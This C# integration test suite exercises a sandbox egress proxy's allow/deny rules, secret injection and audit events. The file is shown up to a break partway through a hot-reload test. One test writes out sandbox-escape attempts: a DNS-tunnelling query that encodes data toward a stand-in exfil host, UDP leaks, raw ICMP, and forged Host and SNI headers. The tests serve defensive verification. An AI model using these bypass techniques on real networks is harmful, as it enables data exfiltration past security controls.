using System.Diagnostics;
using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text.Json;

namespace Hive.Integration.Tests;

/// <summary>
/// Network isolated/shared end to end: real sandboxes whose every connection goes through SbxProxy.
/// Upstreams are servers this fixture runs on 127.0.0.1 (HTTP, HTTPS with the fixture's own CA,
/// fake LLM APIs, WebSocket, raw TCP); the Controller maps the test names to them with
/// --egress-resolve, allows that one loopback address with --egress-allow-cidr (mapped names are
/// checked like any other) and trusts the fixture's CA with --egress-ca. Nothing leaves the host.
/// </summary>
[TestFixture]
[CancelAfter(900_000)]
public sealed class NetworkTests
{
    private static readonly string[] TestNames = ["nosan.test", "api.test", "api2.test", "files.pypi.test", "a.b.pypi.test", "pypi.test", "bad.pypi.test", "raw.test", "llm.test", "ws.test", "other.test"];
    private readonly string _secret = "sk-hive-" + Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(12));
    private EgressUpstream _upstream = null!;
    private int _http;
    private int _https;
    private int _raw;
    private ControllerProcess _controller = null!;

    [OneTimeSetUp]
    public async Task StartAsync()
    {
        _upstream = await EgressUpstream.StartAsync(TestNames.Where(n => n != "nosan.test"), _secret);
        (_http, _https, _raw) = (_upstream.Http, _upstream.Https, _upstream.Raw);
        _controller = await ControllerProcess.StartAsync(
            null, null,
            "--egress-ca", _upstream.CaFile,
            "--egress-resolve", string.Join(',', TestNames.Select(n => n + "=127.0.0.1")),
            "--egress-allow-cidr", "127.0.0.1/32");
    }

    [OneTimeTearDown]
    public async Task StopAsync()
    {
        if (_controller is not null)
        {
            await _controller.DisposeAsync();
        }

        if (_upstream is not null)
        {
            await _upstream.DisposeAsync();
        }
    }

    private async Task<string> ShAsync(string name, string script, int expectExit = 0)
    {
        var result = await _controller.ExecAsync(name, script, timeout: 120);
        var stdout = result.GetProperty("stdout").GetString()!;
        Assert.That(result.GetProperty("exit_code").GetInt32(), Is.EqualTo(expectExit), stdout + "\n" + result.GetProperty("stderr").GetString());
        return stdout;
    }

    /// <summary>Runs labelled curl calls; returns label -> "code rc".</summary>
    private async Task<Dictionary<string, string>> CurlAsync(string name, params (string Label, string Args)[] calls)
    {
        var script = "c() { code=$(curl -s -o /dev/null -w '%{http_code}' -m 8 \"$@\"); echo \"$code rc=$?\"; }\n"
            + string.Join('\n', calls.Select(c => $"echo \"{c.Label} $(c {c.Args})\""));
        var output = await ShAsync(name, script);
        return output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.Split(' ', 2)).ToDictionary(p => p[0], p => p[1]);
    }

    private static string HostLinkOf(JsonElement created)
    {
        var ip = IPAddress.Parse(created.GetProperty("network").GetProperty("ip").GetString()!);
        var b = ip.GetAddressBytes();
        b[3]--;
        var hostIp = new IPAddress(b).ToString();
        var (_, output, _) = Host.RunAsync("ip", "-o", "-4", "addr", "show").GetAwaiter().GetResult();
        return output.Split('\n').Single(l => l.Contains($" {hostIp}/30 ", StringComparison.Ordinal)).Split(' ', StringSplitOptions.RemoveEmptyEntries)[1];
    }

    private static string HostIpOf(JsonElement created)
    {
        var b = IPAddress.Parse(created.GetProperty("network").GetProperty("ip").GetString()!).GetAddressBytes();
        b[3]--;
        return new IPAddress(b).ToString();
    }

    private async Task DestroyAndCheckAsync(string name, string hostLink)
    {
        await _controller.DestroyAsync(name);
        var leftovers = await Host.LeftoversAsync(name, _controller.StateDir(name), hostLink);
        Assert.That(leftovers, Is.Empty, "network state left behind");
        Assert.That(Directory.EnumerateFiles(Path.Combine(_controller.DataDir, "net", "leases")).Where(f => !f.EndsWith(".lock", StringComparison.Ordinal))
            .Select(File.ReadAllText).Where(t => t.Contains($"\"{name}\"", StringComparison.Ordinal)), Is.Empty, "lease not released");
    }

    [Test]
    public async Task Rules_decide_every_request_over_http_and_https()
    {
        var name = Names.Unique("net");
        var created = await _controller.CreateAsync(new
        {
            name,
            egress = new
            {
                deny = new object[] { new { host = "bad.pypi.test" } },
                allow = new object[]
                {
                    new { host = "api.test", methods = new[] { "GET" }, paths = new[] { "/repos/**" } },
                    new { host = "*.pypi.test" },
                    new { host = "api2.test", ports = new[] { _http } },
                    new { host = "nosan.test" },
                },
            },
        });
        Assert.That(created.GetProperty("network").GetProperty("mode").GetString(), Is.EqualTo("isolated"));
        Assert.That(NetPools.InPool(created.GetProperty("network").GetProperty("ip").GetString()!), Is.True, "an address of the --net-pool");
        var link = HostLinkOf(created);
        try
        {
            var r = await CurlAsync(
                name,
                ("get_http", $"http://api.test:{_http}/repos/a/b"),
                ("get_https", $"https://api.test:{_https}/repos/a/b?x=1"),
                ("post", $"-X POST http://api.test:{_http}/repos/a/b"),
                ("post_https", $"-X POST -d x=1 https://api.test:{_https}/repos/a/b"),
                ("other_path", $"https://api.test:{_https}/orgs/x"),
                ("dotdot", $"--path-as-is http://api.test:{_http}/repos/../admin"),
                ("encoded", $"--path-as-is http://api.test:{_http}/repos/%2e%2e/admin"),
                ("glob1", $"https://files.pypi.test:{_https}/simple/"),
                ("glob2", $"http://a.b.pypi.test:{_http}/x"),
                ("apex", $"http://pypi.test:{_http}/x"),
                ("denied_host", $"http://bad.pypi.test:{_http}/x"),
                ("unlisted", $"http://other.test:{_http}/x"),
                ("port_ok", $"http://api2.test:{_http}/x"),
                ("port_bad", $"https://api2.test:{_https}/x"),
                ("upstream_down", "http://api.test:1/repos/x"),
                ("upstream_untrusted", $"https://nosan.test:{_https}/"));
            Assert.Multiple(() =>
            {
                Assert.That(r["get_http"], Is.EqualTo("200 rc=0"));
                Assert.That(r["get_https"], Is.EqualTo("200 rc=0"));
                Assert.That(r["post"], Is.EqualTo("403 rc=0"));
                Assert.That(r["post_https"], Is.EqualTo("403 rc=0"));
                Assert.That(r["other_path"], Is.EqualTo("403 rc=0"));
                Assert.That(r["dotdot"], Is.EqualTo("403 rc=0"));
                Assert.That(r["encoded"], Is.EqualTo("403 rc=0"));
                Assert.That(r["glob1"], Is.EqualTo("200 rc=0"));
                Assert.That(r["glob2"], Is.EqualTo("200 rc=0"));
                Assert.That(r["apex"], Is.EqualTo("000 rc=6"), "not covered by *.pypi.test: the name does not resolve");
                Assert.That(r["denied_host"], Is.EqualTo("000 rc=6"));
                Assert.That(r["unlisted"], Is.EqualTo("000 rc=6"));
                Assert.That(r["port_ok"], Is.EqualTo("200 rc=0"));
                Assert.That(r["port_bad"], Does.StartWith("000 "), "a port no rule names is refused");
                Assert.That(r["upstream_down"], Is.EqualTo("502 rc=0"), "nothing listening upstream");
                Assert.That(r["upstream_untrusted"], Is.EqualTo("502 rc=0"), "the upstream's certificate does not name the host");
            });

            // Keep-alive: the second request on the same connection is decided on its own.
            var keepAlive = await ShAsync(name, $"curl -s -o /dev/null -w '%{{http_code}} %{{num_connects}}\\n' http://api.test:{_http}/repos/1 http://api.test:{_http}/admin https://api.test:{_https}/repos/2 https://api.test:{_https}/admin/x");
            Assert.That(keepAlive.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => System.Text.RegularExpressions.Regex.Match(l, @"\d{3} \d+$").Value), Is.EqualTo(new[] { "200 1", "403 0", "200 1", "403 0" }));

            var body = await ShAsync(name, $"curl -s -X POST https://api.test:{_https}/repos/a");
            using (var denial = JsonDocument.Parse(body))
            {
                Assert.That(denial.RootElement.GetProperty("decision").GetString(), Is.EqualTo("deny"));
                Assert.That(denial.RootElement.GetProperty("rule").GetString(), Does.Contain("no rule allows POST api.test/repos/a"));
            }

            var events = await _controller.WaitForEventsAsync(name, e => e.Count(x => x.GetProperty("kind").GetString() == "net.http") >= 16, kind: "net");
            var http = events.Where(e => e.GetProperty("kind").GetString() == "net.http").ToList();
            Assert.That(http.Any(e => e.GetProperty("decision").GetString() == "allow" && e.GetProperty("protocol").GetString() == "https" && e.GetProperty("path").GetString() == "/repos/a/b"
                && e.GetProperty("query").GetString() == "x=1" && e.GetProperty("status").GetInt32() == 200 && e.GetProperty("rule").GetString() == "allow[0] api.test" && e.GetProperty("bytes_in").GetInt64() > 0), "allowed https request");
            Assert.That(http.Any(e => e.GetProperty("decision").GetString() == "deny" && e.GetProperty("method").GetString() == "POST" && e.GetProperty("status").GetInt32() == 403), "denied POST");
            Assert.That(http.Any(e => e.GetProperty("decision").GetString() == "deny" && e.GetProperty("path").GetString() == "/admin/x" && e.GetProperty("protocol").GetString() == "https"), "denied keep-alive request");
            Assert.That(events.Any(e => e.GetProperty("kind").GetString() == "net.dns" && e.GetProperty("decision").GetString() == "deny" && e.GetProperty("host").GetString() == "other.test"), "NXDOMAIN audited");
            Assert.That(events.Any(e => e.GetProperty("kind").GetString() == "net.connect" && e.GetProperty("decision").GetString() == "allow" && e.GetProperty("protocol").GetString() == "tls"
                && e.GetProperty("host").GetString() == "api.test" && e.GetProperty("rule").GetString() == "allow[0] api.test"), "allowed connection decision on record");
            Assert.That(events.Any(e => e.GetProperty("kind").GetString() == "net.dns" && e.GetProperty("decision").GetString() == "deny" && e.GetProperty("host").GetString() == "bad.pypi.test" && e.GetProperty("rule").GetString() == "deny[0] bad.pypi.test"), "deny rule named");
            Assert.That(events.Any(e => e.GetProperty("kind").GetString() == "net.connect" && e.GetProperty("host").GetString() == "api2.test" && e.GetProperty("port").GetInt32() == _https), "refused port audited");
            Assert.That(http.Any(e => e.GetProperty("host").GetString() == "nosan.test" && e.GetProperty("status").GetInt32() == 502 && e.GetProperty("error").GetString()!.Contains("TLS with nosan.test failed", StringComparison.Ordinal)), "upstream TLS failure audited");
            Assert.That(http.Any(e => e.GetProperty("port").GetInt32() == 1 && e.GetProperty("status").GetInt32() == 502 && e.GetProperty("error").GetString()!.Contains("cannot connect", StringComparison.Ordinal)), "upstream connect failure audited");
        }
        finally
        {
            await DestroyAndCheckAsync(name, link);
        }
    }

    [Test]
    public async Task Clients_trust_the_sandbox_CA_without_flags_and_its_key_stays_on_the_host()
    {
        var name = Names.Unique("net");
        await _controller.CreateAsync(new { name, network = "isolated" });
        try
        {
            var url = $"https://api.test:{_https}/repos/x";
            var output = await ShAsync(name, $"""
                curl -sS {url}; echo
                python3 -c 'import urllib.request; print(urllib.request.urlopen("{url}").read().decode())'
                python3 -c 'import requests; print(requests.get("{url}").text)'
                node -e 'fetch("{url}").then(r => r.text()).then(t => console.log(t))'
                find / -xdev -name 'ca.key' 2>/dev/null | wc -l
                """);
            var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
            Assert.That(lines.Take(4).Select(l => JsonDocument.Parse(l).RootElement.GetProperty("path").GetString()), Is.All.EqualTo("/repos/x"), output);
            Assert.That(lines[4], Is.EqualTo("0"), "the CA key is not inside the sandbox");
            Assert.That(File.Exists(Path.Combine(_controller.StateDir(name), "net", "ca", "ca.key")), Is.True);
            Assert.That(File.GetUnixFileMode(Path.Combine(_controller.StateDir(name), "net", "ca", "ca.key")), Is.EqualTo(UnixFileMode.UserRead | UnixFileMode.UserWrite));
            var events = await _controller.WaitForEventsAsync(name, e => e.Count >= 4, kind: "net.http");
            Assert.That(events.Count(e => e.GetProperty("rule").GetString()!.StartsWith("default: every host", StringComparison.Ordinal)), Is.GreaterThanOrEqualTo(4), "isolated without rules: every host, audited");
        }
        finally
        {
            await _controller.DestroyAsync(name);
        }
    }

    [Test]
    public async Task Raw_tcp_only_where_a_rule_names_host_and_port()
    {
        var name = Names.Unique("net");
        await _controller.CreateAsync(new { name, egress = new { allow = new object[] { new { host = "raw.test", ports = new[] { _raw } }, new { host = "api.test" } } } });
        try
        {
            var output = await ShAsync(name, $$"""
                python3 - <<'EOF'
                import socket
                s = socket.create_connection(("raw.test", {{_raw}}), timeout=5)
                greeting = s.recv(100)
                s.sendall(b"abc")
                print("raw", greeting.decode().strip(), s.recv(100).decode())
                s.close()
                try:
                    t = socket.create_connection(("api.test", {{_raw}}), timeout=5)
                    t.sendall(b"abc")
                    print("unlisted", t.recv(100) or b"closed")
                except OSError as e:
                    print("unlisted refused", type(e).__name__)
                EOF
                """);
            Assert.That(output, Does.Contain("raw hello from raw ABC"));
            Assert.That(output, Does.Contain("unlisted refused").Or.Contain("unlisted b'closed'"));
            var events = await _controller.WaitForEventsAsync(name, e => e.Any(x => x.GetProperty("kind").GetString() == "net.tcp") && e.Any(x => x.GetProperty("kind").GetString() == "net.connect" && x.GetProperty("decision").GetString() == "deny"), kind: "net");
            var tcp = events.First(e => e.GetProperty("kind").GetString() == "net.tcp");
            Assert.That((tcp.GetProperty("host").GetString(), tcp.GetProperty("bytes_out").GetInt64(), tcp.GetProperty("bytes_in").GetInt64()), Is.EqualTo(("raw.test", 3L, 18L)));
            Assert.That(events.Any(e => e.GetProperty("kind").GetString() == "net.connect" && e.GetProperty("decision").GetString() == "deny" && e.GetProperty("host").GetString() == "api.test"
                && e.GetProperty("rule").GetString()!.Contains("raw TCP needs a rule naming host and port", StringComparison.Ordinal)));
        }
        finally
        {
            await _controller.DestroyAsync(name);
        }
    }

    [Test]
    public async Task Bypass_attempts_fail_and_are_audited()
    {
        var name = Names.Unique("net");
        var peer = Names.Unique("peer");
        var created = await _controller.CreateAsync(new { name, egress = new { allow = new object[] { new { host = "api.test" } } } });
        var peerCreated = await _controller.CreateAsync(new { name = peer, network = "isolated" });
        using var udp = new UdpClient(new IPEndPoint(IPAddress.Any, 0));
        var udpPort = ((IPEndPoint)udp.Client.LocalEndPoint!).Port;
        try
        {
            await ShAsync(peer, "(setsid python3 -m http.server 8000 >/dev/null 2>&1 &); for i in $(seq 50); do (echo > /dev/tcp/127.0.0.1/8000) 2>/dev/null && break; sleep 0.1; done");
            var hostIp = HostIpOf(created);
            var peerIp = peerCreated.GetProperty("network").GetProperty("ip").GetString();
            var controllerPort = _controller.BaseAddress.Port;
            var output = await ShAsync(name, $$"""
                c() { code=$(curl -s -o /dev/null -w '%{http_code}' -m 5 "$@"); echo "$code rc=$?"; }
                echo "controller $(c http://{{hostIp}}:{{controllerPort}}/api/v1/hiveboxes)"
                echo "peer $(c http://{{peerIp}}:8000/)"
                echo "unresolved $(c http://10.214.200.200/)"
                echo "forged_host $(c -H 'Host: other.test' http://api.test:{{_http}}/)"
                api=$(getent hosts api.test | cut -d' ' -f1)
                echo "forged_sni $(c --resolve other.test:{{_https}}:$api https://other.test:{{_https}}/)"
                echo "ipv6_addrs $(cat /proc/net/if_inet6 2>/dev/null | wc -l)"
                python3 - <<'EOF'
                import os, socket, struct
                def attempt(label, fn):
                    try:
                        print(label, fn())
                    except OSError as e:
                        print(label, "blocked", type(e).__name__)
                def v6():
                    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(3); s.connect(("2001:db8::1", 80)); return "connected"
                attempt("ipv6", v6)
                def udp():
                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"leak", ("{{hostIp}}", {{udpPort}})); s.sendto(b"leak", ("{{peerIp}}", {{udpPort}})); return "sent"
                attempt("udp", udp)
                def icmp():
                    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(2)
                    header = struct.pack("!BBHHH", 8, 0, 0, 1, 1); csum = 0
                    for i in range(0, len(header), 2): csum += (header[i] << 8) + header[i + 1]
                    csum = ~((csum >> 16) + (csum & 0xffff)) & 0xffff
                    s.sendto(struct.pack("!BBHHH", 8, 0, csum, 1, 1), ("{{hostIp}}", 0))
                    try:
                        s.recv(100); return "reply"
                    except socket.timeout:
                        return "no reply"
                attempt("icmp", icmp)
                def dns_tunnel():
                    name = "aGVsbG8td29ybGQtc2VjcmV0.data.exfil.test"
                    q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", 16, 1)
                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, ("{{hostIp}}", 53))
                    return "rcode %d" % (s.recv(512)[3] & 15)
                attempt("dns_tunnel", dns_tunnel)
                EOF
                """);
            var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.Split(' ', 2)).ToDictionary(p => p[0], p => p[1]);
            Assert.Multiple(() =>
            {
                Assert.That(lines["controller"], Does.StartWith("000 "), "the Controller's port");
                Assert.That(lines["peer"], Does.StartWith("000 "), "another sandbox");
                Assert.That(lines["unresolved"], Does.StartWith("000 "), "an address the DNS never handed out");
                Assert.That(lines["forged_host"], Is.EqualTo("403 rc=0"), "Host header naming another host");
                Assert.That(lines["forged_sni"], Does.StartWith("000 "), "SNI naming another host");
                Assert.That(lines["ipv6_addrs"], Is.EqualTo("0"));
                Assert.That(lines["ipv6"], Does.StartWith("blocked"));
                Assert.That(lines["icmp"], Is.EqualTo("blocked PermissionError"), "no CAP_NET_RAW, so no raw ICMP socket (the host end drops ICMP behind that: RawSocketTests)");
                Assert.That(lines["dns_tunnel"], Is.EqualTo("rcode 3"), "NXDOMAIN, never forwarded");
            });

            udp.Client.ReceiveTimeout = 1000;
            Assert.That(() => udp.Receive(ref Unsafe.Any), Throws.InstanceOf<SocketException>(), "no UDP datagram left the sandbox");

            var events = await _controller.WaitForEventsAsync(name, e => e.Count(x => x.GetProperty("kind").GetString() == "net.connect") >= 4, kind: "net", decision: "deny");
            var errors = events.Select(e => e.GetProperty("kind").GetString() + " " + (e.TryGetProperty("error", out var x) ? x.GetString() : string.Empty) + " " + (e.TryGetProperty("host", out var h) ? h.GetString() : string.Empty)).ToList();
            Assert.Multiple(() =>
            {
                Assert.That(errors, Has.Some.Contains($"direct connection to {hostIp}:{controllerPort}"));
                Assert.That(errors, Has.Some.Contains($"direct connection to {peerIp}:8000"));
                Assert.That(errors, Has.Some.Contains("direct connection to 10.214.200.200:80"));
                Assert.That(errors, Has.Some.Contains("Host header 'other.test' does not match"));
                Assert.That(errors, Has.Some.Contains("TLS server name 'other.test' does not match"));
                Assert.That(errors, Has.Some.Contains("net.dns").And.Contains("aGVsbG8td29ybGQtc2VjcmV0.data.exfil.test"), "recorded as asked (case can carry data)");
            });
        }
        finally
        {
            await _controller.DestroyAsync(name);
            await _controller.DestroyAsync(peer);
        }
    }

    private static class Unsafe
    {
        public static IPEndPoint Any = new(IPAddress.Any, 0);
    }

    [Test]
    public async Task Secrets_are_injected_on_the_host_and_never_seen_by_the_sandbox()
    {
        var name = Names.Unique("net");
        // allow_http: the second request below goes over plain HTTP (TLS-only secrets are the attack suite's).
        using (var put = await _controller.Http.PutAsJsonAsync("/api/v1/secrets/tok", new { value = _secret, hosts = new[] { "api.test" }, allow_http = true }))
        {
            Assert.That((int)put.StatusCode, Is.EqualTo(201), await put.Content.ReadAsStringAsync());
        }

        using (var put = await _controller.Http.PutAsJsonAsync("/api/v1/secrets/gone", new { value = "gone-" + _secret, hosts = new[] { "api2.test" } }))
        {
            Assert.That((int)put.StatusCode, Is.EqualTo(201), await put.Content.ReadAsStringAsync());
        }

        var listed = await _controller.Http.GetStringAsync("/api/v1/secrets");
        Assert.That(listed, Does.Contain("\"tok\"").And.Contain("\"hosts\":[\"api.test\"]").And.Not.Contain(_secret));
        await _controller.CreateAsync(new
        {
            name,
            egress = new
            {
                allow = new object[]
                {
                    new { host = "api.test", inject = new { headers = new Dictionary<string, string> { ["Authorization"] = "Bearer ${secret:tok}" }, query = new Dictionary<string, string> { ["key"] = "${secret:tok}" } } },
                    new { host = "api2.test", inject = new { headers = new Dictionary<string, string> { ["Authorization"] = "Bearer ${secret:gone}" } } },
                },
            },
        });
        using (var delete = await _controller.Http.DeleteAsync("/api/v1/secrets/gone"))
        {
            Assert.That((int)delete.StatusCode, Is.EqualTo(200), "a secret deleted after the rule was made");
        }

        try
        {
            var half = _secret.Length / 2;
            var output = await ShAsync(name, $$"""
                curl -s 'https://api.test:{{_https}}/check?x=1'; echo
                curl -s -H 'Authorization: Bearer forged' 'http://api.test:{{_http}}/check'; echo
                curl -s -w ' %{http_code}' 'http://api2.test:{{_http}}/check'; echo
                a='{{_secret[..half]}}'; b='{{_secret[half..]}}'
                grep -rIl "$a$b" /etc /root /tmp /usr/local /var 2>/dev/null | wc -l
                env | grep -c "$a$b" || true
                """);
            var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
            using (var first = JsonDocument.Parse(lines[0]))
            {
                Assert.That(first.RootElement.GetProperty("authorized").GetBoolean(), Is.True, lines[0]);
                Assert.That(first.RootElement.GetProperty("query_key_ok").GetBoolean(), Is.True, lines[0]);
                Assert.That(first.RootElement.GetProperty("path").GetString(), Is.EqualTo("/check?x=1&key=<hidden>"));
            }

            using (var second = JsonDocument.Parse(lines[1]))
            {
                Assert.That(second.RootElement.GetProperty("authorized").GetBoolean(), Is.True, "the rule's value replaces the agent's header");
            }

            Assert.That(lines[2], Does.Contain("secret 'gone'").And.Contain("not set").And.EndWith(" 502"));
            Assert.That(lines[3], Is.EqualTo("0"));
            Assert.That(lines[4], Is.EqualTo("0"));
            Assert.That(output, Does.Not.Contain(_secret));

            await _controller.WaitForEventsAsync(name, e => e.Count >= 3, kind: "net.http");
            using var all = await _controller.Http.GetAsync($"/api/v1/hiveboxes/{name}/events?follow=false&format=jsonl");
            var text = await all.Content.ReadAsStringAsync();
            Assert.That(text, Does.Contain("/check").And.Not.Contain(_secret), "no event carries the secret");
            var log = string.Join('\n', Directory.EnumerateFiles(Path.Combine(_controller.StateDir(name), "net"), "*.log").Select(File.ReadAllText));
            Assert.That(log, Does.Not.Contain(_secret));
        }
        finally
        {
            await _controller.DestroyAsync(name);
            using var delete = await _controller.Http.DeleteAsync("/api/v1/secrets/tok");
            Assert.That((int)delete.StatusCode, Is.EqualTo(200));
        }
    }

    [Test]
    public async Task Cli_stores_secrets_and_creates_a_governed_sandbox()
    {
        var name = Names.Unique("net");
        var env = new Dictionary<string, string> { ["HIVEBOX_API_URL"] = _controller.BaseAddress.ToString().TrimEnd('/') };
        var set = await Host.RunWithEnvAsync("/bin/sh", ["-c", "printf '%s\n' \"$V\" | \"$0\" secrets set cli-tok --host api.test", Paths.Cli], "/", TimeSpan.FromSeconds(60), new(env) { ["V"] = _secret });
        Assert.That(set.Code, Is.EqualTo(0), set.Output);
        var listed = await Host.RunWithEnvAsync(Paths.Cli, ["secrets", "ls"], "/", TimeSpan.FromSeconds(60), env);
        Assert.That(listed.Stdout, Does.Contain("cli-tok").And.Contain("hosts api.test (TLS only)").And.Not.Contain(_secret));
        var unbound = await Host.RunWithEnvAsync("/bin/sh", ["-c", "echo value-1234 | \"$0\" secrets set cli-nohost", Paths.Cli], "/", TimeSpan.FromSeconds(60), env);
        Assert.That(unbound.Code, Is.Not.EqualTo(0), "--host is required");
        Assert.That(unbound.Output, Does.Contain("--host"));
        const string egress = """{"allow": [{"host": "api.test", "inject": {"headers": {"Authorization": "Bearer ${secret:cli-tok}"}}}]}""";
        var created = await Host.RunWithEnvAsync(Paths.Cli, ["create", name, "--egress", egress, "--json"], "/", TimeSpan.FromSeconds(120), env);
        Assert.That(created.Code, Is.EqualTo(0), created.Output);
        try
        {
            using (var json = JsonDocument.Parse(created.Stdout))
            {
                Assert.That(json.RootElement.GetProperty("network").GetProperty("mode").GetString(), Is.EqualTo("isolated"));
            }

            var exec = await Host.RunWithEnvAsync(Paths.Cli, ["exec", name, "--", "curl", "-s", $"https://api.test:{_https}/cli"], "/", TimeSpan.FromSeconds(60), env);
            Assert.That(exec.Stdout, Does.Contain("\"authorized\": true"), exec.Output);
            await _controller.WaitForEventsAsync(name, e => e.Count >= 1, kind: "net.http");
            var events = await Host.RunWithEnvAsync(Paths.Cli, ["events", name, "--kind", "net"], "/", TimeSpan.FromSeconds(60), env);
            Assert.That(events.Stdout, Does.Match(@"net\.dns allow A api\.test -> \d+\.\d+\.\d+\.\d+ \[allow\[0\] api\.test\]"), events.Output);
            Assert.That(events.Stdout, Does.Contain($"net.connect allow tls api.test:{_https} [allow[0] api.test]"));
            Assert.That(events.Stdout, Does.Contain($"net.http allow GET https://api.test:{_https}/cli 200 ("));
            Assert.That(events.Stdout, Does.Not.Contain(_secret));
            var bad = await Host.RunWithEnvAsync(Paths.Cli, ["create", Names.Unique("net"), "--egress", "{\"allow\": [{\"host\": \"10.0.0.1\"}]}"], "/", TimeSpan.FromSeconds(60), env);
            Assert.That((bad.Code, bad.Output), Is.Not.EqualTo((0, string.Empty)));
            Assert.That(bad.Output, Does.Contain("IP address"));
        }
        finally
        {
            await _controller.DestroyAsync(name);
            var removed = await Host.RunWithEnvAsync(Paths.Cli, ["secrets", "rm", "cli-tok"], "/", TimeSpan.FromSeconds(60), env);
            Assert.That(removed.Code, Is.EqualTo(0), removed.Output);
        }
    }

    [Test]
    public async Task Llm_calls_are_observed_from_the_traffic()
    {
        var name = Names.Unique("net");
        await _controller.CreateAsync(new { name, egress = new { allow = new object[] { new { host = "llm.test" } } } });
        try
        {
            await ShAsync(name, $$"""
                python3 - <<'EOF'
                import requests
                base = "https://llm.test:{{_https}}"
                msgs = [{"role": "user", "content": "hi"}]
                r = requests.post(base + "/v1/chat/completions", json={"model": "gpt-4o-mini", "messages": msgs}); assert r.status_code == 200
                r = requests.post(base + "/v1/chat/completions", json={"model": "gpt-4o-mini", "messages": msgs, "stream": True}, stream=True); assert "[DONE]" in r.text
                r = requests.post(base + "/v1/messages", json={"model": "claude-haiku", "max_tokens": 10, "messages": msgs}); assert r.status_code == 200
                r = requests.post(base + "/v1/messages", json={"model": "claude-haiku", "max_tokens": 10, "messages": msgs, "stream": True}, stream=True); assert "message_stop" in r.text
                r = requests.post(base + "/v1/responses", json={"model": "gpt-4.1", "input": "hi"}); assert r.status_code == 200
                r = requests.post(base + "/v1/responses", json={"model": "gpt-4.1", "input": "hi", "stream": True}, stream=True); assert "response.completed" in r.text
                parts = {"contents": [{"parts": [{"text": "hi"}]}]}
                r = requests.post(base + "/v1beta/models/gemini-2.0-flash:generateContent", json=parts); assert r.status_code == 200
                r = requests.post(base + "/v1beta/models/gemini-2.0-flash:streamGenerateContent?alt=sse", json=parts, stream=True); assert "usageMetadata" in r.text
                EOF
                """);
            var calls = await _controller.WaitForEventsAsync(name, e => e.Count >= 8, kind: "llm.call");
            var seen = calls.Select(e => (
                e.GetProperty("provider").GetString(), e.GetProperty("model").GetString(), e.GetProperty("input_tokens").GetInt64(),
                e.GetProperty("output_tokens").GetInt64(), e.GetProperty("stream").GetBoolean(), e.GetProperty("status").GetInt32())).ToList();
            Assert.That(seen, Is.EquivalentTo(new[]
            {
                ("openai", "gpt-4o-mini", 11L, 22L, false, 200),
                ("openai", "gpt-4o-mini", 13L, 2L, true, 200),
                ("anthropic", "claude-haiku", 41L, 7L, false, 200),
                ("anthropic", "claude-haiku", 31L, 17L, true, 200),
                ("openai", "gpt-4.1", 21L, 9L, false, 200),
                ("openai", "gpt-4.1", 23L, 12L, true, 200),
                ("gemini", "gemini-2.0-flash", 5L, 8L, false, 200),
                ("gemini", "gemini-2.0-flash", 6L, 10L, true, 200),
            }));
            Assert.That(calls.All(e => e.GetProperty("host").GetString() == "llm.test" && e.GetProperty("latency_ms").GetInt64() >= 0));
        }
        finally
        {
            await _controller.DestroyAsync(name);
        }
    }

    [Test]
    public async Task WebSocket_upgrades_are_relayed_and_audited()
    {
        var name = Names.Unique("net");
        await _controller.CreateAsync(new { name, egress = new { allow = new object[] { new { host = "ws.test", methods = new[] { "GET" }, paths = new[] { "/ws" } } } } });
        try
        {
            var output = await ShAsync(name, $$"""
                python3 - <<'EOF'
                import base64, os, socket, ssl
                def talk(sock, host):
                    key = base64.b64encode(os.urandom(16)).decode()
                    sock.sendall(("GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % (host, key)).encode())
                    head = b""
                    while b"\r\n\r\n" not in head:
                        head += sock.recv(1)
                    status = head.split(b" ")[1].decode()
                    mask = os.urandom(4); payload = b"hi"
                    sock.sendall(bytes([0x81, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
                    frame = sock.recv(100)
                    sock.sendall(bytes([0x88, 0x80]) + os.urandom(4))
                    return status, frame[2:].decode()
                print("ws", *talk(socket.create_connection(("ws.test", {{_http}})), "ws.test"))
                ctx = ssl.create_default_context()
                print("wss", *talk(ctx.wrap_socket(socket.create_connection(("ws.test", {{_https}})), server_hostname="ws.test"), "ws.test"))
                EOF
                """);
            Assert.That(output, Does.Contain("ws 101 echo:hi").And.Contain("wss 101 echo:hi"));
            var events = await _controller.WaitForEventsAsync(name, e => e.Count(x => x.GetProperty("kind").GetString() == "net.websocket.closed") >= 2, kind: "net.websocket");
            Assert.That(events.Where(e => e.GetProperty("kind").GetString() == "net.websocket").Select(e => e.GetProperty("protocol").GetString()), Is.EquivalentTo(new[] { "ws", "wss" }));
            Assert.That(events.Where(e => e.GetProperty("kind").GetString() == "net.websocket.closed").All(e => e.GetProperty("bytes_in").GetInt64() > 0 && e.GetProperty("path").GetString() == "/ws"));
        }
        finally
        {
            await _controller.DestroyAsync(name);
        }
    }

    [Test]
    public async Task Policy_hot_reload_applies_to_open_connections()
    {
        var name = Names.Unique("net");
        await _controller.CreateAsync(new { name, egress = new { allow = new object[] { new { host = "api.test" } } } });
        try
        {
            // One keep-alive connection: a request, then (after the policy changed) two more on it.
            await ShAsync(name, $$"""
                cat > /tmp/ka.py <<'EOF'
                import http.client, os, time
                c = http.client.HTTPSConnection("api.test", {{_https}}, timeout=10)
                def get(path):
                    c.request("GET", path); r = c.getresponse(); r.read(); return r.status
                out = open("/tmp/ka.out", "w")
                out.write("first %d\n" % get("/a")); out.flush()
                sock = c.sock
                for step in ("second", "third"):
